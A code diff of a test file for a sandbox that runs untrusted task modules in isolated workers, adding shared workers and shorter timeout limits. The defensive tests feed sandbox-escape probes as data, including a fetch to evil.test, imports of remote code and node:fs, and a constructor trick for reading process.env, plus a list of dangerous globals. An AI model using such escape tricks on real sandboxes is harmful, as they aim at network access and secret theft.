@@ -5,11 +5,11 @@ import { createServer, type RequestListener } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { afterEach, describe, expect, test, vi } from 'vitest';
+import { afterAll, afterEach, describe, expect, test, vi } from 'vitest';
 import type { UserCodeError } from '../../src/errors.ts';
 import { openTask } from '../../src/cli/run/openTask.ts';
 import { decodePlain, encodePlain } from '../../src/tasks/module/plain.ts';
-import { isolatedTask } from '../../src/tasks/module/isolated.ts';
+import { type IsolatedLimits, isolatedTask } from '../../src/tasks/module/isolated.ts';
 import { fetchSource, SOURCE_LIMITS } from '../../src/tasks/module/source.ts';
 import { Guest } from '../../src/tasks/tools/sandbox.ts';
 import type { ScoredSample, Task } from '../../src/tasks/task.ts';
@@ -33,13 +33,29 @@ export default {
   ${parts['more'] ?? ''}
 };`;
 
-async function isolated(files: string | Record<string, string>, timeoutMs = 20_000): Promise<Task> {
+/** Hang guards: nothing that ends takes so long. */
+const HANG_LIMITS = { timeoutMs: 60_000, loadMs: 60_000 };
+/** For what never ends: any limit is right. */
+const SHORT_MS = 100;
+
+async function isolated(files: string | Record<string, string>, limits: IsolatedLimits = HANG_LIMITS): Promise<Task> {
+  const task = await open(files, limits);
+  closing.push(() => task.close?.());
+  return task;
+}
+
+async function open(files: string | Record<string, string>, limits: IsolatedLimits): Promise<Task> {
   const texts = typeof files === 'string' ? { [ENTRY]: files } : files;
   const read = (address: string) =>
     Object.hasOwn(texts, address) ? Promise.resolve(texts[address]) : Promise.reject(new Error(`no ${address}`));
-  const task = await isolatedTask({ entry: ENTRY, root: 'https://example.test/', read }, {}, { timeoutMs });
-  closing.push(() => task.close?.());
-  return task;
+  return isolatedTask({ entry: ENTRY, root: 'https://example.test/', read }, {}, limits);
+}
+
+/** One worker for all tests of a `describe`. */
+function once(text: string): () => Promise<Task> {
+  let opening: Promise<Task> | undefined;
+  afterAll(async () => (await opening)?.close?.());
+  return () => (opening ??= open(text, HANG_LIMITS));
 }
 
 const sample = { problem: { id: 'p', messages: [], answer: '1' }, response: 'r' } as unknown as ScoredSample;
@@ -67,11 +83,14 @@ describe('a hostile module', () => {
   });
 
   test.each(Object.keys(CALLS))('hangs in %s: ended at its limit, its worker replaced', async (part) => {
-    const task = await isolated(moduleOf({ [part]: '() => { for (;;); }' }), 1500);
+    const limits = { ...HANG_LIMITS };
+    const task = await isolated(moduleOf({ [part]: '() => { for (;;); }' }), limits);
+    limits.timeoutMs = SHORT_MS;
     const ended = vi.spyOn(Guest.prototype, 'end');
     await expect(CALLS[part](task)).rejects.toThrow(
-      `${NAMED[part]} of task module ${ENTRY} ran longer than 1.5 s (task.timeoutS)`,
+      `${NAMED[part]} of task module ${ENTRY} ran longer than 0.1 s (task.timeoutS)`,
     );
+    limits.timeoutMs = HANG_LIMITS.timeoutMs;
     expect(ended).toHaveBeenCalledTimes(1);
     const other = part === 'reward' ? 'train' : 'reward';
     await expect(CALLS[other](task)).resolves.toBeDefined();
@@ -79,8 +98,8 @@ describe('a hostile module', () => {
     expect(ended).toHaveBeenCalledTimes(2);
   });
 
-  test.each([
-    ['hangs when it is loaded', 'for (;;);', 'ran longer than 10 s'],
+  test.each<[string, string, string, loadMs?: number]>([
+    ['hangs when it is loaded', 'for (;;);', 'ran longer than 0.1 s', SHORT_MS],
     ['throws when it is loaded', 'null.x', `TypeError: cannot read property 'x' of null (at <anonymous> (${ENTRY}:1:`],
     ['does not parse', 'let = ;', 'SyntaxError: '],
     ['exports nothing', 'export const a = 1;', 'it has neither a default export nor an export named task'],
@@ -95,13 +114,13 @@ describe('a hostile module', () => {
     ['imports from elsewhere', "import 'https://evil.test/x.js';", 'imports from https://example.test/ alone'],
     ['imports a built-in', "import 'node:fs';", 'imports from https://example.test/ alone'],
     ['imports what is not there', "import './no.js';", 'no https://example.test/tasks/no.js'],
-  ])('%s', async (_, text, sentence) => {
+  ])('%s', async (_, text, sentence, loadMs = HANG_LIMITS.loadMs) => {
     const ended = vi.spyOn(Guest.prototype, 'end');
-    await expect(isolated(text)).rejects.toThrow(sentence);
+    await expect(isolated(text, { ...HANG_LIMITS, loadMs })).rejects.toThrow(sentence);
     expect(ended).toHaveBeenCalled();
   });
 
-  test.each([
+  const RETURNED: [string, string, RegExp][] = [
     [
       '10 MB',
       '() => ({ score: 1, acc: 1, pred: "x".repeat(1e7) })',
@@ -125,47 +144,42 @@ describe('a hostile module', () => {
       /threw "an error without a readable message"/,
     ],
     ['memory without end', '() => { const a = []; for (;;) a.push("x".repeat(1e6) + a.length); }', /of task module/],
-  ])('returns %s from its reward', async (_, reward, sentence) => {
-    const task = await isolated(moduleOf({ reward }));
-    await expect(task.reward(sample)).rejects.toThrow(sentence);
-    await expect(task.train(0, 1)).resolves.toMatchObject({ id: 'train-0' });
+  ];
+  describe('returns from its reward', () => {
+    const rewards = RETURNED.map(([name, reward]) => `"${name}": ${reward}`).join();
+    const task = once(moduleOf({ reward: `({ response }) => ({ ${rewards} })[response]()` }));
+    test.each(RETURNED)('%s', async (response, _, sentence) => {
+      await expect((await task()).reward({ ...sample, response })).rejects.toThrow(sentence);
+      await expect((await task()).train(0, 1)).resolves.toMatchObject({ id: 'train-0' });
+    });
   });
 
   const REACHED = [
-    ...['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'importScripts', 'indexedDB', 'localStorage'],
-    ...['sessionStorage', 'caches', 'navigator', 'process', 'require', 'SharedArrayBuffer', 'postMessage', 'parent'],
-    ...[
-      'self',
-      'window',
-      'document',
-      'Worker',
-      'crypto',
-      'WebAssembly',
-      'setTimeout',
-      'module',
-      'Buffer',
-      'Deno',
-      'Bun',
-    ],
-  ];
+    'fetch XMLHttpRequest WebSocket EventSource importScripts indexedDB localStorage sessionStorage',
+    'caches navigator process require SharedArrayBuffer postMessage parent self window document',
+    'Worker crypto WebAssembly setTimeout module Buffer Deno Bun',
+  ].flatMap((names) => names.split(' '));
   test('reaches for what a page or Node has: none of it is there', async () => {
     const reward = `() => ({ score: 0, acc: 0, pred: ${JSON.stringify(REACHED)}.filter((name) => name in globalThis || (0, eval)('typeof ' + name) !== 'undefined').join() })`;
     expect(await (await isolated(moduleOf({ reward }))).reward(sample)).toEqual({ score: 0, acc: 0, pred: '' });
     const fetching = await isolated(moduleOf({ reward: '() => fetch("https://evil.test/" + 1)' }));
-    await expect(fetching.reward(sample)).rejects.toThrow(
-      `threw "ReferenceError: 'fetch' is not defined" (at reward (${ENTRY}:`,
-    );
+    const sentence = `threw "ReferenceError: 'fetch' is not defined" (at reward (${ENTRY}:`;
+    await expect(fetching.reward(sample)).rejects.toThrow(sentence);
   });
 
-  test.each([
+  const TRIED = [
     ['import("./late.js")', 'a module is loaded with all that it imports'],
     ['import("https://evil.test/x.js")', 'imports from https://example.test/ alone'],
     ['eval("import(\'node:fs\')")', 'imports from https://example.test/ alone'],
     ['Function("return process")()', "'process' is not defined"],
     ['(() => {}).constructor.constructor("return globalThis.process.env")()', 'TypeError'],
-  ])('tries %s', async (code, sentence) => {
-    const task = await isolated(moduleOf({ reward: `async () => { await ${code}; return { score: 1, acc: 1 }; }` }));
-    await expect(task.reward(sample)).rejects.toThrow(sentence);
+  ];
+  describe('tries', () => {
+    const codes = TRIED.map(([code]) => `async () => { await ${code}; return { score: 1, acc: 1 }; }`).join();
+    const task = once(moduleOf({ reward: `({ response }) => [${codes}][response]()` }));
+    test.each(TRIED.map(([code, sentence], i) => [code, sentence, i] as const))('%s', async (_, sentence, i) => {
+      await expect((await task()).reward({ ...sample, response: String(i) })).rejects.toThrow(sentence);
+    });
   });
 
   test('changes what everything inherits: nothing changes outside, and the calls go on', async () => {
@@ -204,7 +218,8 @@ test('tools, their states, observe and what it moved; a worker that is started a
     demonstrate: (problem) => [{ role: 'assistant', content: problem.answer }],`;
   const reward =
     '({ response, toolStates }) => { if (response === "hang") for (;;); return { score: toolStates?.count.n ?? level, acc: 0 }; }';
-  const task = await isolated(moduleOf({ more, reward }, 'let level = 0;'), 1000);
+  const limits = { ...HANG_LIMITS };
+  const task = await isolated(moduleOf({ more, reward }, 'let level = 0;'), limits);
   const [tool] = task.tools!;
   const context = { sampleId: 's', problem: sample.problem, signal: new AbortController().signal };
   const state = await tool.create!(context);
@@ -220,7 +235,9 @@ test('tools, their states, observe and what it moved; a worker that is started a
     { score: 1, acc: 1 },
   ]);
   expect(task.state!()).toEqual({ level: 2 });
-  await expect(task.reward({ ...sample, response: 'hang' })).rejects.toThrow('ran longer than 1 s');
+  limits.timeoutMs = SHORT_MS;
+  await expect(task.reward({ ...sample, response: 'hang' })).rejects.toThrow('ran longer than 0.1 s');
+  limits.timeoutMs = HANG_LIMITS.timeoutMs;
   expect(await task.reward(sample)).toEqual({ score: 2, acc: 0 });
   await expect(tool.execute({}, { ...context, state })).rejects.toThrow('the state of this sample is gone');
 });
